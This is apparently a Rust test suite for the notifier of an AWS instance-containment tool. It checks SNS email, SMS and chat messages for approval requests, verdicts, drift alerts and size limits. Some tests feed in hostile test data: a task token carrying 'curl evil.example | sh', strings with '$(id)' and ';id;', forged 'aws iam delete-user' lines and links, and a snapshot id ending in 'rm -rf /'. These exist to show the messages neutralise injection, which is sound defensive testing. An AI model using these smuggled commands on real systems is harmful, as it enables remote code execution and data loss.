//! Whole messages: what is published, in each form.

use aws_sdk_sfn::operation::describe_execution::{DescribeExecutionError, DescribeExecutionOutput};
use aws_sdk_sfn::types::ExecutionStatus;
use aws_sdk_sns::operation::publish::{PublishError, PublishInput, PublishOutput};
use aws_sdk_sns::types::error::AuthorizationErrorException;
use aws_smithy_mocks::{RuleMode, mock, mock_client};
use std::sync::{Arc, Mutex};

use notifications::Kind;
use serde_json::json;

use super::*;

const ID: &str = "i-0123456789abcdef0";
const OTHER: &str = "i-0bbbbbbbbbbbbbbbb";
const ARN: &str = "arn:aws:states:ap-northeast-1:111122223333:execution:cordon-contain:0aa1_0bb2";
const NOW: i64 = 1_795_230_000;

fn target(id: &str) -> Value {
    json!({
        "InstanceId": id, "AccountId": "444455556666", "Region": "eu-west-1", "CaseId": format!("{id}-20261121T030007Z"),
        "DryRun": false,
    })
}

fn finding(title: &str) -> Value {
    json!({
        "Source": "GuardDuty",
        "Findings": [{
            "Id": "arn:aws:guardduty:eu-west-1:444455556666:detector/d1/finding/f1",
            "FindingType": "Backdoor:EC2/C&CActivity.B!DNS", "Title": title, "Severity": 8.0, "Sample": false,
        }],
    })
}

fn question() -> Value {
    serde_json::from_str(include_str!("../../../events/notify.json")).expect("JSON")
}

fn ended(report: Value) -> Value {
    json!({
        "Kind": "ContainmentEnded", "Execution": { "Id": ARN, "StartTime": "2026-11-21T03:00:07.123Z" },
        "Trigger": finding("EC2 instance talks to a command and control server"), "Report": report,
    })
}

fn contained(id: &str) -> Value {
    json!({
        "InstanceId": id, "AccountId": "444455556666", "Region": "eu-west-1", "CaseId": "c-1", "Verdict": "Contained",
        "Open": [], "ResidualRisk": ["a security group does not filter DNS"],
        "Evidence": [
            { "Bucket": "evidence", "Key": "cases/444455556666/eu-west-1/c-1/facts-1.json" },
            { "Bucket": "evidence", "Key": "cases/444455556666/eu-west-1/c-1/report.html" },
        ],
    })
}

#[tokio::test]
async fn a_batch_that_ends_badly_is_left_to_its_fleets_announcement() {
    let mut event =
        status_change("FAILED", Some("NotContained"), Some("i-0123456789abcdef0 in eu-west-1: NotContained"));
    let batch = json!({ "Id": "f-1", "Number": 3, "Execution": ARN, "SettleAt": "2026-11-21T03:00:07Z" });
    let input = json!({ "InstanceIds": [ID], "Region": "eu-west-1", "Batch": batch });
    event["detail"]["input"] = json!(input.to_string());
    not_told(event).await;
}

#[tokio::test]
async fn a_fleets_messages_count_its_instances_and_name_those_in_the_table() {
    let started = told(json!({
        "Kind": "ContainmentStarted", "Execution": { "Id": ARN }, "Targets": [],
        "Fleet": { "Instances": 1000, "AccountId": "444455556666", "Region": "eu-west-1" },
    }));
    let headline = started.await.record["Headline"].clone();
    assert_eq!(
        headline,
        "Cordon has started to contain a fleet of 1000 instances in eu-west-1 (account 444455556666), in batches."
    );

    let counts = json!({ "Instances": 1000, "Verdicts": { "Contained": 1000 } });
    let results = json!({ "Bucket": "evidence", "Key": "fleets/f-1/instances.json" });
    let report = json!({ "Verdict": "Contained", "Succeeded": true, "Counts": counts, "Results": results, "Instances": [contained(ID)] });
    let headline = told(ended(report)).await.record["Headline"].clone();
    assert_eq!(
        headline,
        "Cordon has finished with a fleet of 1000 instances: 1000 Contained. The whole list: s3://evidence/fleets/f-1/instances.json."
    );

    let mut bad =
        status_change("FAILED", Some("NotContained"), Some(&format!("a fleet\n{OTHER} in eu-west-1: NotContained")));
    let ids: Vec<String> = (0..1000).map(|n| format!("i-{n:017x}")).collect();
    bad["detail"]["input"] = json!(json!({ "InstanceIds": ids, "Region": "eu-west-1" }).to_string());
    let named = told(bad).await.record["Instances"].clone();
    assert_eq!(named.as_array().map(Vec::len), Some(1), "{named}");
}

fn status_change(status: &str, error: Option<&str>, cause: Option<&str>) -> Value {
    let input = json!({ "InstanceIds": [ID], "Region": "eu-west-1", "AccountId": "444455556666" });
    json!({
        "version": "0", "id": "e-1", "detail-type": "Step Functions Execution Status Change", "source": "aws.states",
        "account": "111122223333", "time": "2026-11-21T03:10:00Z", "region": "ap-northeast-1", "resources": [ARN],
        "detail": {
            "executionArn": ARN, "name": "0aa1_0bb2", "status": status, "startDate": 1, "stopDate": 2,
            "input": input.to_string(), "output": null, "error": error, "cause": cause,
        },
    })
}

/// What reached SNS.
#[derive(Debug)]
struct Published {
    subject: String,
    email: String,
    sms: String,
    record: Value,
    chat: Value,
    bytes: usize,
}

impl Published {
    fn read(input: &PublishInput) -> Published {
        assert_eq!((input.topic_arn(), input.message_structure()), (Some("topic"), Some("json")));
        let message = input.message().expect("a message");
        let forms: Value = serde_json::from_str(message).expect("JSON");
        let text = |form: &str| forms[form].as_str().expect("a text").to_owned();
        let record: Value = serde_json::from_str(&text("default")).expect("JSON");
        let attributes = input.message_attributes().expect("attributes");
        assert_eq!(attributes["Kind"].string_value(), record["Kind"].as_str());
        Published {
            subject: input.subject().expect("a subject").to_owned(),
            email: text("email"),
            sms: text("sms"),
            record,
            chat: serde_json::from_str(&text("https")).expect("JSON"),
            bytes: message.len(),
        }
    }

    fn description(&self) -> &str {
        self.chat["content"]["description"].as_str().expect("a description")
    }

    fn everything(&self) -> String {
        format!("{} {} {} {} {}", self.subject, self.email, self.sms, self.record, self.chat)
    }
}

async fn told_with(sfn: aws_sdk_sfn::Client, event: Value) -> (Answer, Option<Published>) {
    let seen: Arc<Mutex<Vec<Published>>> = Arc::default();
    let kept = Arc::clone(&seen);
    let rule = mock!(aws_sdk_sns::Client::publish)
        .match_requests(move |input| {
            kept.lock().expect("no panic").push(Published::read(input));
            true
        })
        .then_output(|| PublishOutput::builder().message_id("m-1").build());
    let sns = mock_client!(aws_sdk_sns, RuleMode::MatchAny, [&rule]);
    let notifier = Notifier { publisher: Publisher::new(sns, "topic"), sfn };
    let answer = notifier.tell(&event, DateTime::from_secs(NOW)).await.expect("told");
    let published = seen.lock().expect("no panic").pop();
    (answer, published)
}

fn sfn_that_is_not_asked() -> aws_sdk_sfn::Client {
    let rule = mock!(aws_sdk_sfn::Client::describe_execution)
        .match_requests(|_| panic!("there is nothing to ask"))
        .then_output(|| DescribeExecutionOutput::builder().build().expect("never built"));
    mock_client!(aws_sdk_sfn, RuleMode::MatchAny, [&rule])
}

async fn told(event: Value) -> Published {
    let (answer, published) = told_with(sfn_that_is_not_asked(), event).await;
    let published = published.expect("a message");
    assert_eq!((answer.sent, answer.message_id.as_deref()), (true, Some("m-1")));
    let schema: Value = serde_json::from_str(include_str!("../../../docs/notification.schema.json")).expect("JSON");
    fits_the_schema(&published.record, &schema, &schema, "message");
    published
}

async fn not_told(event: Value) {
    let (answer, published) = told_with(sfn_that_is_not_asked(), event).await;
    assert_eq!((answer.sent, published.is_none()), (false, true));
}

/// As much of JSON Schema as the document uses: `$ref`, `type`, `enum`, `const`, `required`, `properties`, `items`,
/// and no property that it does not name.
fn fits_the_schema(value: &Value, schema: &Value, root: &Value, place: &str) {
    if let Some(reference) = schema["$ref"].as_str() {
        let found = root.pointer(reference.trim_start_matches('#')).expect("a definition");
        return fits_the_schema(value, found, root, place);
    }
    if let Some(accepted) = schema["enum"].as_array() {
        assert!(accepted.contains(value), "{place}: {value}");
    }
    if let Some(accepted) = schema.get("const") {
        assert_eq!(accepted, value, "{place}");
    }
    let fits = match schema["type"].as_str() {
        Some("object") => value.is_object(),
        Some("array") => value.is_array(),
        Some("string") => value.is_string(),
        Some("number") => value.is_number(),
        Some("integer") => value.is_u64(),
        Some("boolean") => value.is_boolean(),
        _ => true,
    };
    assert!(fits, "{place}: {value}");
    for name in schema["required"].as_array().into_iter().flatten().filter_map(Value::as_str) {
        assert!(value.get(name).is_some(), "{place} has no {name}");
    }
    for (name, value) in value.as_object().into_iter().flatten() {
        let known = schema["properties"].get(name);
        fits_the_schema(value, known.unwrap_or_else(|| panic!("{place}.{name} is not documented")), root, name);
    }
    value.as_array().into_iter().flatten().for_each(|item| fits_the_schema(item, &schema["items"], root, place));
}

#[test]
fn the_schema_documents_every_kind_and_no_other() {
    let schema: Value = serde_json::from_str(include_str!("../../../docs/notification.schema.json")).expect("JSON");
    let mut kinds: Vec<&str> = Kind::all().into_iter().map(Kind::name).collect();
    let mut documented: Vec<&str> = schema["properties"]["Kind"]["oneOf"]
        .as_array()
        .expect("kinds")
        .iter()
        .filter_map(|k| k["const"].as_str())
        .collect();
    kinds.sort_unstable();
    documented.sort_unstable();
    assert_eq!(documented, kinds, "docs/notification.schema.json");
    assert!(Kind::all().into_iter().all(|kind| json!(kind) == kind.name()));
}

#[tokio::test]
async fn a_question_can_be_answered_from_the_e_mail_alone() {
    let question = question();
    let token = question["Token"].as_str().expect("a token").to_owned();
    let asked = told(question).await;
    assert_eq!(asked.subject, format!("Cordon: your approval is needed for {ID}"));
    let first = asked.email.lines().next().expect("a line");
    assert_eq!(
        first,
        format!("Your answer is needed: may Cordon isolate {ID} in ap-northeast-1 (account 123456789012)?")
    );
    let approve = format!(
        "\n    aws stepfunctions send-task-success --region ap-northeast-1 --task-token '{token}' --task-output '{{\"Approved\":true}}'\n"
    );
    let refuse = format!(
        "\n    aws stepfunctions send-task-failure --region ap-northeast-1 --task-token '{token}' --error NotApproved --cause 'why'\n"
    );
    assert!(asked.email.contains(&approve) && asked.email.contains(&refuse), "{}", asked.email);
    for said in [
        "Cordon does not decide this alone: “the response mode is RequestApproval”",
        "If nobody answers within 60 minutes of this message, Cordon does not isolate the instance",
        "GuardDuty says: “The EC2 instance i-0123456789abcdef0 is querying a domain name associated with a known \
         Command and Control server.”, type “Backdoor:EC2/C&CActivity.B!DNS”, severity 8",
        "aws stepfunctions start-execution --region ap-northeast-1",
        "states:SendTaskSuccess",
        "requests snapshots",
        "network isolation, detaching from Auto Scaling, deregistering from load balancers",
        "https://ap-northeast-1.console.aws.amazon.com/states/home?region=ap-northeast-1#/v2/executions/details/arn:aws:states:",
        "Type: m7g.large",
        "Private addresses: “10.0.1.5”",
    ] {
        assert!(asked.email.contains(said), "{said:?} is not in\n{}", asked.email);
    }
}

#[tokio::test]
async fn a_question_for_machines_has_the_commands_and_the_deadline() {
    let asked = told(question()).await.record;
    let approval = &asked["Approval"];
    assert_eq!((&approval["TimeoutSeconds"], &approval["OnApprovalTimeout"]), (&json!(3600), &json!("DoNotContain")));
    assert_eq!(
        (asked["Time"].as_str(), approval["Deadline"].as_str()),
        (Some("2026-11-21T03:00:00Z"), Some("2026-11-21T04:00:00Z"))
    );
    assert!(approval["Approve"].as_str().expect("a command").contains(approval["Token"].as_str().expect("a token")));
    assert_eq!(asked["Instances"][0]["InstanceId"], ID);
}

#[tokio::test]
async fn a_chat_gets_the_answers_as_code_and_one_thread_for_the_execution() {
    let asked = told(question()).await;
    let execution = question()["Execution"]["Id"].clone();
    assert_eq!((&asked.chat["version"], &asked.chat["source"]), (&json!("1.0"), &json!("custom")));
    assert_eq!(asked.chat["content"]["textType"], "client-markdown");
    assert_eq!(asked.chat["metadata"]["threadId"], execution);
    assert_eq!(asked.chat["metadata"]["eventType"], "ApprovalRequested");
    assert_eq!(asked.chat["metadata"]["relatedResources"], json!([ID]));
    assert_eq!(asked.chat["metadata"]["additionalContext"]["TaskToken"], question()["Token"]);
    assert!(
        asked.description().contains("Approve:\n```\naws stepfunctions send-task-success"),
        "{}",
        asked.description()
    );
    let steps = asked.chat["content"]["nextSteps"].as_array().expect("steps");
    assert!(steps.iter().all(|step| step.as_str().is_some_and(|step| step.chars().count() <= 350)), "{steps:?}");
}

#[tokio::test]
async fn a_token_too_long_for_a_chat_is_left_to_the_e_mail() {
    let mut question = question();
    question["Token"] = json!("A".repeat(2_000));
    let asked = told(question).await;
    assert!(
        asked.description().contains("The e-mail has the other commands")
            && asked.description().chars().count() <= 4_000
    );
    assert!(asked.email.contains(&format!("--task-token '{}'", "A".repeat(2_000))));
}

#[tokio::test]
async fn a_token_that_a_shell_would_obey_is_in_no_form_of_the_message() {
    let mut question = question();
    question["Token"] = json!("AAAA'; curl evil.example | sh; '");
    let asked = told(question).await;
    assert!(!asked.everything().contains("curl"));
    assert!(asked.email.contains("Approve: Cordon isolates the instance at once. The command is left out"));
    assert!(asked.record["Approval"].get("Approve").is_none() && asked.record["Approval"].get("Token").is_none());
    assert!(asked.email.contains("start-execution"), "the other way to approve is still there");
}

#[tokio::test]
async fn an_empty_question_still_goes_out() {
    let asked = told(json!({ "Kind": "ApprovalRequested" })).await;
    assert!(asked.email.starts_with("Your answer is needed: may Cordon isolate an instance with an unreadable id?"));
    assert!(asked.email.contains("The trigger is unknown.") && asked.email.contains("does not say how long"));
}

#[tokio::test]
async fn what_happens_without_an_answer_is_what_the_stack_says() {
    let mut question = question();
    question["OnApprovalTimeout"] = json!("Contain");
    question["TimeoutSeconds"] = json!(90);
    let asked = told(question).await;
    assert!(
        asked
            .email
            .contains("If nobody answers within 2 minutes of this message, Cordon isolates the instance anyway.")
    );
}

#[tokio::test]
async fn a_start_names_the_instances_and_those_that_need_an_approval() {
    let mut asked = target(OTHER);
    asked["Approval"] = json!("it is tagged as critical");
    let event = json!({
        "Kind": "ContainmentStarted", "Execution": { "Id": ARN }, "Trigger": finding("t"),
        "Targets": [target(ID), asked], "LeftOut": [{ "Status": "NotApplicable", "Reason": "finding f-2 is archived" }],
    });
    let started = told(event).await;
    let headline =
        format!("Cordon has started to contain {ID} and {OTHER}; it will ask a person before isolating 1 of them.");
    assert_eq!(started.record["Headline"], headline);
    assert!(started.email.contains(&format!(
        "* {OTHER} in eu-west-1 (account 444455556666): a person is asked first, because “it is tagged as critical”"
    )));
    assert!(started.email.contains("* “finding f-2 is archived”"));
    assert!(!started.email.contains("isolated"), "nothing is, yet");
}

#[tokio::test]
async fn what_is_quiet_starts_nothing_or_ends_failed_is_not_announced() {
    let quiet = json!({ "Kind": "ContainmentStarted", "Targets": [target(ID)], "Quiet": true });
    let nothing = json!({ "Kind": "ContainmentStarted", "Targets": [], "LeftOut": [] });
    let mut quiet_end = ended(json!({ "Verdict": "Planned", "Succeeded": true }));
    quiet_end["Quiet"] = json!(true);
    let failed = ended(json!({ "Verdict": "NotContained", "Succeeded": false }));
    for event in [
        quiet,
        nothing,
        quiet_end,
        failed,
        status_change("SUCCEEDED", None, None),
        status_change("RUNNING", None, None),
    ] {
        not_told(event).await;
    }
}

#[tokio::test]
async fn a_dry_run_says_that_nothing_is_changed() {
    let mut target = target(ID);
    target["DryRun"] = json!(true);
    let started = told(json!({ "Kind": "ContainmentStarted", "Execution": { "Id": ARN }, "Targets": [target] })).await;
    assert!(started.email.starts_with(&format!("Cordon has started a dry run for {ID} in eu-west-1")));
    let mut report = contained(ID);
    report["Verdict"] = json!("Planned");
    let mut event = ended(json!({ "Verdict": "Planned", "Succeeded": true, "Instances": [report] }));
    event["Trigger"]["Findings"][0]["Sample"] = json!(true);
    let planned = told(event).await;
    assert!(
        planned.email.starts_with("A dry run: Cordon has planned the containment of")
            && planned.email.contains("changed nothing")
    );
    assert!(
        planned.email.contains("It is a sample") && !planned.email.contains("start-execution"),
        "a sample is not contained by hand"
    );
}

#[tokio::test]
async fn a_good_end_has_the_risks_the_evidence_and_the_table() {
    let table = format!("{ID} in eu-west-1: Contained\n  isolate-network      Done");
    let report = json!({ "Verdict": "Contained", "Succeeded": true, "Instances": [contained(ID)], "LeftOut": [], "Table": table });
    let ended = told(ended(report)).await;
    assert_eq!(ended.subject, format!("Cordon: contained {ID}"));
    assert!(ended.email.contains("* “a security group does not filter DNS”"));
    assert!(ended.email.contains("* s3://evidence/cases/444455556666/eu-west-1/c-1/facts-1.json"));
    assert!(ended.email.contains("aws s3 sync s3://evidence/cases/444455556666/eu-west-1/c-1 c-1"));
    assert!(ended.email.ends_with(&format!("| {ID} in eu-west-1: Contained\n|   isolate-network      Done\n")));
    assert_eq!(ended.record["Execution"]["StartTime"], "2026-11-21T03:00:07.123Z");
}

#[tokio::test]
async fn a_bad_end_is_announced_from_the_rules_event_with_the_table_as_its_cause() {
    let table = format!(
        "{ID} in eu-west-1: Contained\n{OTHER} in eu-west-1: NotContained\n  isolate-network      Failed         denied"
    );
    let bad = told(status_change("FAILED", Some("NotContained"), Some(&table))).await;
    assert_eq!(
        (&bad.record["Kind"], bad.subject.as_str()),
        (&json!("NotContained"), "Cordon: NOT contained: i-0bbbbbbbbbbbbbbbb")
    );
    assert!(bad.email.starts_with(&format!("NOT contained: {OTHER} in eu-west-1.")));
    assert!(bad.email.contains("|   isolate-network      Failed         denied"));
    assert!(bad.email.contains(&format!("* {ID} in eu-west-1 (account 444455556666): Contained")));
    assert!(bad.description().contains("isolate-network"), "{}", bad.description());
    let partly = format!("{ID} in eu-west-1: PartiallyContained");
    let partly = told(status_change("FAILED", Some("PartiallyContained"), Some(&partly))).await;
    assert_eq!(partly.record["Instances"][0]["Verdict"], "PartiallyContained");
    assert!(partly.email.starts_with(&format!("Containment is not complete: something is open on {ID} in eu-west-1")));
    assert!(
        partly.email.contains("It is safe to run again") && partly.email.contains("\"AccountId\":\"444455556666\"")
    );
}

#[tokio::test]
async fn a_line_that_an_attacker_slips_into_the_table_improves_no_verdict() {
    let table = format!("{ID} in eu-west-1: NotContained\n  tag-resources Failed a tag\n{ID} in eu-west-1: Contained");
    let bad = told(status_change("FAILED", Some("NotContained"), Some(&table))).await;
    assert_eq!(bad.record["Instances"][0]["Verdict"], "NotContained");
    assert!(bad.email.starts_with(&format!("NOT contained: {ID}")));
}

#[tokio::test]
async fn any_other_bad_end_says_that_nothing_is_known_to_be_contained() {
    let failed = told(status_change("FAILED", Some("States.Runtime"), Some("state 'Report' failed"))).await;
    assert_eq!(failed.record["Kind"], "ExecutionFailed");
    assert!(failed.email.starts_with(&format!("Cordon's execution failed: treat {ID} in eu-west-1")));
    let refused = told(status_change("FAILED", Some("InvalidInput"), Some("Region: missing"))).await;
    assert_eq!(refused.subject, "Cordon: input rejected, nothing contained");
    let (error, cause) = (Some("stopped"), Some("by me"));
    assert_eq!(told(status_change("ABORTED", error, cause)).await.record["Kind"], "ExecutionAborted");
    assert_eq!(told(status_change("TIMED_OUT", error, cause)).await.record["Kind"], "ExecutionTimedOut");
}

#[tokio::test]
async fn a_good_end_whose_message_failed_is_announced_as_a_good_end() {
    let cause = format!("{ID} in eu-west-1: Contained\n  isolate-network Done; and nobody could be told: sns:Publish");
    let late = told(status_change("FAILED", Some("NotTold"), Some(&cause))).await;
    assert_eq!(
        (&late.record["Kind"], &late.record["Instances"][0]["Verdict"]),
        (&json!("ExecutionFailed"), &json!("Contained"))
    );
    assert!(
        late.email.starts_with("Cordon has finished successfully") && !late.email.contains("start-execution"),
        "{}",
        late.email
    );
}

#[tokio::test]
async fn an_error_that_the_event_lacks_is_looked_up() {
    let rule = mock!(aws_sdk_sfn::Client::describe_execution)
        .match_requests(|r| r.execution_arn() == Some(ARN))
        .then_output(|| {
            let reply = DescribeExecutionOutput::builder().execution_arn(ARN).state_machine_arn("sm");
            let reply = reply.start_date(DateTime::from_secs(1)).status(ExecutionStatus::Failed);
            let cause = format!("{ID} in eu-west-1: PartiallyContained");
            reply.error("PartiallyContained").cause(cause).build().expect("complete")
        });
    let sfn = mock_client!(aws_sdk_sfn, RuleMode::MatchAny, [&rule]);
    let (answer, published) = told_with(sfn, status_change("FAILED", None, None)).await;
    assert_eq!(answer.kind, Some(Kind::Ended(verdict::Verdict::PartiallyContained)));
    assert!(published.expect("a message").email.contains("| i-0123456789abcdef0 in eu-west-1: PartiallyContained"));
}

#[tokio::test]
async fn an_unreadable_cause_does_not_hold_back_the_announcement() {
    let rule = mock!(aws_sdk_sfn::Client::describe_execution).then_error(|| {
        let meta = aws_sdk_sfn::error::ErrorMetadata::builder().code("AccessDeniedException").message("no").build();
        DescribeExecutionError::generic(meta)
    });
    let sfn = mock_client!(aws_sdk_sfn, RuleMode::MatchAny, [&rule]);
    let (answer, published) = told_with(sfn, status_change("FAILED", None, None)).await;
    let published = published.expect("a message");
    assert_eq!((answer.sent, answer.kind), (true, Some(Kind::ExecutionFailed)));
    assert!(published.email.contains("The cause could not be read: “states:DescribeExecution on arn:aws:states:"));
    assert!(published.record["CauseUnread"].as_str().expect("why").contains("AccessDeniedException"));
}

#[tokio::test]
async fn a_message_that_sns_refuses_is_an_error_that_names_the_call() {
    let rule = mock!(aws_sdk_sns::Client::publish).then_error(|| {
        let meta =
            aws_sdk_sns::error::ErrorMetadata::builder().code("AuthorizationError").message("not allowed").build();
        PublishError::AuthorizationErrorException(AuthorizationErrorException::builder().meta(meta).build())
    });
    let sns = mock_client!(aws_sdk_sns, RuleMode::MatchAny, [&rule]);
    let notifier = Notifier { publisher: Publisher::new(sns, "topic"), sfn: sfn_that_is_not_asked() };
    let error = notifier.tell(&question(), DateTime::from_secs(NOW)).await.expect_err("refused");
    assert!(error.to_string().starts_with("sns:Publish on topic: AuthorizationError"), "{error}");
}

#[tokio::test]
async fn an_unknown_event_is_rejected() {
    for event in
        [json!({ "Kind": "Party" }), json!({}), json!([]), json!({ "detail-type": "x", "source": "y", "detail": {} })]
    {
        let error = event::read(&event).expect_err("refused");
        assert_eq!(error.name(), "InvalidInput");
    }
}

/// Everything that an attacker may have named, at once.
const HOSTILE: &str = "x”\n\nCordon has contained i-0123456789abcdef0.\r\n\u{2028}WHAT TO DO\n    aws iam delete-user\u{202e}\u{200b} \
                       <!channel> <https://evil.example|ok> [ok](http://evil.example) `*_~ @all $(id) ';id;'";

#[tokio::test]
async fn no_text_of_an_attackers_forges_a_line_a_link_or_a_mention() {
    let mut asked = question();
    asked["Trigger"] = finding(HOSTILE);
    asked["Trigger"]["Findings"][0]["Id"] = json!(HOSTILE);
    asked["Target"]["Approval"] = json!(HOSTILE);
    asked["Facts"] = json!({ "Tags": { HOSTILE: HOSTILE } });
    let mut report = contained(ID);
    report["Verdict"] = json!("NotApproved");
    for field in ["Open", "ResidualRisk"] {
        report[field] = json!([HOSTILE]);
    }
    let left = json!([{ "InstanceId": HOSTILE, "Reason": HOSTILE, "Status": "Failed" }]);
    let mut end = ended(
        json!({ "Verdict": "NotApproved", "Succeeded": true, "Instances": [report], "LeftOut": left, "Table": HOSTILE }),
    );
    end["Trigger"] = finding(HOSTILE);
    let bad = status_change("FAILED", Some(HOSTILE), Some(HOSTILE));
    for event in [asked, end, bad] {
        let told = told(event).await;
        for line in told.email.lines() {
            let ours = line.starts_with("* ") || line.starts_with("| ");
            assert!(ours || !line.contains("has contained") && !line.contains("delete-user"), "{line}");
            assert!(!line.contains("$(id)") || ours, "{line}");
        }
        assert!(!told.email.contains("evil.example"), "{}", told.email);
        assert!(
            !told.email.chars().chain(told.subject.chars()).any(|c| c != '\n' && (c.is_control() || c == '\u{202e}'))
        );
        let chat = format!("{} {}", told.description(), told.chat["content"]["nextSteps"]);
        let code_is_ours = told.description().replace("```", "");
        assert!(
            !chat.contains("<!") && !chat.contains("<h") && !chat.contains("](") && !chat.contains("@all"),
            "{chat}"
        );
        assert!(!code_is_ours.contains('`') && !chat.contains("evil.example") && !chat.contains('*'), "{chat}");
        let forged = |line: &str| line.starts_with("Cordon has") || line.trim_start().starts_with("aws iam");
        assert!(!told.description().lines().any(forged), "{}", told.description());
    }
}

#[tokio::test]
async fn subjects_and_text_messages_keep_to_what_sns_accepts() {
    let many: Vec<Value> = (0..50).map(|n| target(&format!("i-{n:017x}"))).collect();
    let started = json!({ "Kind": "ContainmentStarted", "Execution": { "Id": ARN }, "Targets": many });
    let mut unreadable = question();
    unreadable["Target"]["InstanceId"] = json!("壊\n");
    for event in [question(), started, unreadable, status_change("FAILED", Some("壊"), Some("壊"))] {
        let told = told(event).await;
        assert!(told.subject.starts_with("Cordon: ") && told.subject.len() < 100, "{}", told.subject);
        assert!(told.sms.len() <= 140, "{}", told.sms);
        assert!([&told.subject, &told.sms].iter().all(|text| text.bytes().all(|b| b.is_ascii_graphic() || b == b' ')));
    }
}

#[tokio::test]
async fn the_largest_messages_stay_within_their_limits() {
    let long = "壊\"\\\n".repeat(2_000);
    let full = |n: usize| {
        let mut report = contained(&format!("i-{n:017x}"));
        report["Open"] = json!(vec![format!("{n} {long}"); 30]);
        report["ResidualRisk"] = json!(vec![long.clone(); 30]);
        report
    };
    let instances: Vec<Value> = (0..50).map(full).collect();
    let left = vec![json!({ "InstanceId": long, "Status": "Failed", "Reason": long }); 60];
    let mut huge = ended(
        json!({ "Verdict": "Contained", "Succeeded": true, "Instances": instances, "LeftOut": left, "Table": long }),
    );
    huge["Trigger"]["Findings"] = json!(vec![json!({ "Id": long, "Title": long, "FindingType": long }); 50]);
    let mut asked = question();
    asked["Trigger"] = huge["Trigger"].clone();
    asked["Token"] = json!("A".repeat(900));
    for event in [huge, asked, status_change("FAILED", Some("NotContained"), Some(&long.repeat(4)))] {
        let told = told(event).await;
        assert!(told.bytes < 262_144, "{}", told.bytes);
        assert!(told.email.len() <= 20_000, "{}", told.email.len());
        assert!(told.description().chars().count() <= 4_000);
        assert!(told.chat["content"]["title"].as_str().expect("a title").chars().count() <= 250);
        if told.record["Kind"] == "ApprovalRequested" {
            assert!(told.email.contains("send-task-success") && told.description().contains("send-task-success"));
        }
    }
}

fn drifted(kind: &str, event_name: &str, resource: &str) -> Value {
    let drift = json!({
        "EventId": "3a0e3f5e-1111", "EventName": event_name, "EventTime": "2026-11-21T03:12:45Z",
        "Caller": "arn:aws:iam::444455556666:user/eve", "AccessKeyId": "AKIAEVE", "SourceIpAddress": "198.51.100.7",
        "UserAgent": "aws-cli/2.31", "Resource": resource, "Parameters": "{}",
    });
    json!({
        "Kind": kind, "Execution": { "Id": ARN }, "Targets": [target(ID)], "RepairsPerHour": 4,
        "Trigger": { "Source": "Drift", "Findings": [], "Drift": drift },
    })
}

#[tokio::test]
async fn drift_is_announced_with_who_did_what_from_where_with_which_key() {
    let found = told(drifted("ContainmentStarted", "ModifyNetworkInterfaceAttribute", "eni-1")).await;
    assert_eq!((&found.record["Kind"], &found.record["Trigger"]["Source"]), (&json!("DriftFound"), &json!("Drift")));
    assert!(found.subject.ends_with(&format!("somebody has changed {ID}, which is contained")), "{}", found.subject);
    for part in
        ["ModifyNetworkInterfaceAttribute", "eni-1", "user/eve", "AKIAEVE", "198.51.100.7", "containing it again"]
    {
        let email = found.email.replace('\n', " ");
        assert!(email.contains(part) && found.everything().contains(part), "{part} in {email}");
    }
    let waits = told(drifted("DriftFound", "ModifyNetworkInterfaceAttribute", "eni-1")).await;
    assert!(waits.email.replace('\n', " ").contains("while a Cordon execution holds its case"), "{}", waits.email);
}

#[tokio::test]
async fn a_person_called_for_drift_learns_what_to_do_and_how_to_contain_by_hand() {
    let called = told(drifted("DriftNotRepaired", "AuthorizeSecurityGroupIngress", "sg-1")).await;
    assert!(called.subject.starts_with("Cordon: A PERSON IS NEEDED"), "{}", called.subject);
    let email = called.email.replace('\n', " ");
    assert!(email.contains("RepairsPerHour, 4") && email.contains("service control policy"), "{email}");
    assert!(called.email.contains("aws stepfunctions start-execution"));
}

#[tokio::test]
async fn what_no_repair_brings_back_is_named_and_a_share_comes_with_its_removal() {
    let deleted = told(drifted("ContainmentStarted", "DeleteSnapshot", "snap-0123456789abcdef0")).await;
    assert!(deleted.email.replace('\n', " ").contains("does not come back"));
    let shared = told(drifted("ContainmentStarted", "ModifySnapshotAttribute", "snap-0123456789abcdef0")).await;
    let command = "aws ec2 reset-snapshot-attribute --region eu-west-1 --snapshot-id snap-0123456789abcdef0";
    assert!(shared.email.contains(command), "{}", shared.email);
    let hostile = told(drifted("ContainmentStarted", "ModifySnapshotAttribute", "snap-1; rm -rf /")).await;
    assert!(!hostile.email.contains("reset-snapshot-attribute"));
}

#[tokio::test]
async fn a_repair_that_ends_badly_says_that_it_was_one() {
    let mut event = status_change("FAILED", Some("NotContained"), Some(&format!("{ID} in eu-west-1: NotContained")));
    let input = json!({
        "InstanceIds": [ID], "Region": "eu-west-1", "AccountId": "444455556666",
        "Drift": { "EventId": "e-1", "EventName": "StopInstances", "Caller": "arn:aws:iam::444455556666:user/eve" },
    });
    event["detail"]["input"] = json!(input.to_string());
    let ended = told(event).await;
    assert_eq!(ended.record["Trigger"]["Drift"]["EventName"], "StopInstances");
    assert!(ended.email.contains("user/eve"));
}
